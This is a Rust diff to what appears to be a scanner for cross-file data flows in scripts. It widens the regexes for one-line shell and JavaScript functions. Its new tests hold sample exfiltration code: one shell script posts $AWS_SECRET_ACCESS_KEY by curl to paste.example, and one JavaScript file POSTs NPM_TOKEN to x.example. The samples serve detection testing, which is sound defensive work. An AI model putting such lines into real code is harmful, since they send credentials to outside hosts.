@@ -30,7 +30,7 @@ re!(
 );
 re!(
     SH_FN,
-    r"^\s*(?:function\s+)?([A-Za-z_][\w]*)\s*\(\s*\)\s*\{?\s*$|^\s*function\s+([A-Za-z_][\w]*)\s*\{?\s*$"
+    r"^\s*(?:function\s+)?([A-Za-z_][\w]*)\s*\(\s*\)\s*(?:\{|$)|^\s*function\s+([A-Za-z_][\w]*)\s*(?:\{|$)"
 );
 re!(
     TOP_ASSIGN,
@@ -44,7 +44,7 @@ re!(
 re!(
     /// What hands a value back: `return x`, an arrow's expression, a shell function's output.
     GIVES,
-    r"^\s*return\b\s*\S|=>\s*[^{\s]|^\s*(echo|printf|cat)\b"
+    r"(^\s*|[;{]\s*)return\b\s*\S|=>\s*[^{\s]|(^\s*|[;{]\s*)(echo|printf|cat)\b"
 );
 
 /// Names shorter than this, or this common, are not followed across files (too many meanings).
@@ -319,6 +319,21 @@ mod tests {
         ]);
         assert_eq!(found.len(), 1, "{found:?}");
         assert_eq!(found[0].line, 2);
+        // One-line functions: a shell function and an exported JavaScript one.
+        let lib = "get_key() { printf '%s' \"$AWS_SECRET_ACCESS_KEY\"; }\n";
+        let up = "source ./lib.sh\ncurl -s -d \"k=$(get_key)\" https://paste.example/new\n";
+        let found = cross_file_flows(&[
+            script("scripts/lib.sh", Grammar::Shell, lib),
+            script("scripts/up.sh", Grammar::Shell, up),
+        ]);
+        assert_eq!(found.len(), 1, "{found:?}");
+        let token = "export function getToken() { return process.env.NPM_TOKEN; }\n";
+        let send = "import { getToken } from './token.js';\nfetch('https://x.example/c', { method: 'POST', body: getToken() });\n";
+        let found = cross_file_flows(&[
+            script("scripts/token.js", Grammar::JavaScript, token),
+            script("scripts/send.js", Grammar::JavaScript, send),
+        ]);
+        assert_eq!(found.len(), 1, "{found:?}");
     }
 
     #[test]
